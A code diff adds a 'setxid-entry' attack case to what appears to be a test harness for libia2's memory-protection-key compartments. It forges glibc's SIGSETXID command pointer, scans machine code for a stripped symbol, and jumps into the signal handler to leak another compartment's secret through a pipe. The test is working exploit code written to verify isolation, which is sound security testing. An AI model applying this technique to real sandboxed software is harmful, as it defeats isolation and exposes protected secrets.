@@ -8,6 +8,7 @@
 #define _GNU_SOURCE
 #include <cpuid.h>
 #include <dlfcn.h>
+#include <errno.h>
 #include <fcntl.h>
 #include <link.h>
 #include <linux/filter.h>
@@ -31,6 +32,7 @@
 #include <ucontext.h>
 #include <unistd.h>
 
+#include "../common/hidden.h"
 #include "monitor.h"
 
 #define PAGE 4096
@@ -407,6 +409,112 @@ static int signal_entry(void)
 	return ATTACK_FAILED;
 }
 
+/* glibc's SIGSETXID handler makes the call that the command *__xidcmd
+ * points to names (nptl/nptl_setxid.c, struct xid_command in
+ * nptl/descr.h), and libia2's setxid entry runs it. A fork child of
+ * compartment 1 points __xidcmd at a command of its own, write(pipe,
+ * compartment 2's secret), and jumps to the entry with a siginfo that
+ * glibc's checks accept; the entry never returns (its rt_sigreturn finds
+ * no frame), so the parent reads the pipe and the command's result. The
+ * attack fails only if the handler ran the command without compartment
+ * 2's key. */
+#define SIGSETXID (__SIGRTMIN + 1)
+
+struct xid_command {
+	int syscall_no;
+	unsigned long id[3];
+	volatile int cntr;
+	volatile int error;
+};
+
+/* __xidcmd, from the handler's first `mov disp32(%rip), %rax`, which
+ * loads it (the handler's code is readable, its symbol stripped). */
+static struct xid_command **find_xidcmd(const unsigned char *handler)
+{
+	int32_t rel;
+
+	for (int i = 0; i < 256; i++)
+		if (handler[i] == 0x48 && handler[i + 1] == 0x8b && handler[i + 2] == 0x05) {
+			memcpy(&rel, handler + i + 3, sizeof rel);
+			return (struct xid_command **)(handler + i + 7 + rel);
+		}
+	return NULL;
+}
+
+static void *thread_body(void *arg)
+{
+	return arg;
+}
+
+static void forge_setxid_command(int out, struct xid_command *cmd, siginfo_t *si)
+{
+	struct {
+		void *handler;
+		unsigned long flags;
+		void *restorer;
+		uint64_t mask;
+	} k;
+	void **table = hidden_symbol("libia2", "__ia2_signal_handlers");
+	struct xid_command **xidcmd = NULL;
+	char *stack = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	pthread_t t;
+
+	/* glibc installs its handler at the first pthread_create. */
+	if (!pthread_create(&t, NULL, thread_body, NULL))
+		pthread_join(t, NULL);
+	if (table && table[SIGSETXID])
+		xidcmd = find_xidcmd(table[SIGSETXID]);
+	if (!xidcmd || stack == MAP_FAILED || syscall(SYS_rt_sigaction, SIGSETXID, NULL, &k, 8) ||
+	    !k.handler) {
+		printf("found no setxid entry, handler or __xidcmd\n");
+		_exit(5);
+	}
+	*cmd = (struct xid_command){SYS_write, {(unsigned long)out, (unsigned long)lib_secret_address(),
+						sizeof(int)}, 1, -1};
+	si->si_signo = SIGSETXID;
+	si->si_code = SI_TKILL;
+	si->si_pid = getpid();
+	*xidcmd = cmd;
+	fflush(stdout);
+	/* The handler's stack must be pkey-0 memory, which PKRU(0) opens. */
+	__asm__ volatile("mov %0, %%rsp\n\t"
+			 "call *%1"
+			 :
+			 : "r"(stack + 12 * PAGE), "r"(k.handler), "D"(SIGSETXID), "S"(si), "d"(stack)
+			 : "memory");
+	_exit(ATTACK_FAILED);
+}
+
+static int setxid_entry(void)
+{
+	int fds[2], got = 0, status;
+	char *shared = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	struct xid_command *cmd = (struct xid_command *)shared;
+	pid_t child;
+
+	if (shared == MAP_FAILED || pipe2(fds, O_NONBLOCK))
+		return 5;
+	child = fork();
+	if (child == 0)
+		forge_setxid_command(fds[1], cmd, (siginfo_t *)(shared + 256));
+	if (child < 0 || waitpid(child, &status, 0) != child)
+		return 5;
+	if (WIFEXITED(status) && WEXITSTATUS(status) == 5)
+		return 5;
+	if (read(fds[0], &got, sizeof got) == sizeof got)
+		return judge(got);
+	if (cmd->cntr != 0) {
+		printf("glibc's handler never ran the command\n");
+		return 5;
+	}
+	if (cmd->error != EFAULT) {
+		printf("the command's write failed with %d, not EFAULT\n", cmd->error);
+		return 5;
+	}
+	printf("the command's write of compartment 2's secret failed with EFAULT\n");
+	return 0;
+}
+
 /* The monitor writes traps over PKRU writers when libia2 asks it to
  * (libia2/writers.c); compartment 1 asks it to write one over
  * compartment 2's code. */
@@ -626,6 +734,7 @@ int main(int argc, char **argv)
 		{"proc-mem-child", proc_mem_child}, {"signal-entry", signal_entry},
 		{"trap-request", trap_request}, {"config-deny", config_deny},
 		{"give-own", give_own},         {"open-while-spawning", open_while_spawning},
+		{"setxid-entry", setxid_entry},
 		{"ok", legitimate},
 	};
 
